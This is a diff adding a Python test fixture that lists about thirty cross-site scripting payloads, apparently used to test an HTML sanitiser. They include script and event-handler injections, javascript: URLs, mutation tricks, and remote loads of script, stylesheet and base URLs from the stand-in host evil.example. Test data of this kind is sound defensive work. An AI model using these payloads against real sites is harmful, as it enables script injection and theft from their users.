@@ -1,0 +1,38 @@
+"""Texts that try to run something in a page."""
+
+MARK = "hacked"
+
+HOSTILE = [
+    "<script>hacked()</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "</script><script>hacked()</script>",
+    "</style><script>hacked()</script>",
+    "</title><script>hacked()</script>",
+    "<img src=x onerror=hacked()>",
+    '"><img src=x onerror="hacked()">',
+    "'><svg onload='hacked()'>",
+    "<svg/onload=hacked()>",
+    "<svg><script>hacked()</script></svg>",
+    '" autofocus onfocus="hacked()" x="',
+    "' onmouseover='hacked()' x='",
+    "<iframe src=javascript:hacked()></iframe>",
+    "<iframe srcdoc='<script>hacked()</script>'>",
+    "<a href='javascript:hacked()'>x</a>",
+    "javascript:hacked()",
+    "<body onload=hacked()>",
+    "<meta http-equiv=refresh content='0;url=javascript:hacked()'>",
+    "<base href='//evil.example/'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<object data='javascript:hacked()'>",
+    "<details open ontoggle=hacked()>",
+    "<input autofocus onfocus=hacked()>",
+    "<style>@import '//evil.example/x.css'</style>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=hacked()>",
+    "<!--<img src='--><img src=x onerror=hacked()>'>",
+    "]]><script>hacked()</script>",
+    "&lt;script&gt;hacked()&lt;/script&gt;",
+    "{{ 7 * 7 }}{% include 'base.css' %}hacked",
+    "<x onclick=hacked() style='position:fixed;inset:0'>",
+    "\u2028</script\u2028><script\u2028>hacked()</script>",
+    "<noscript><p title='</noscript><img src=x onerror=hacked()>'>",
+]
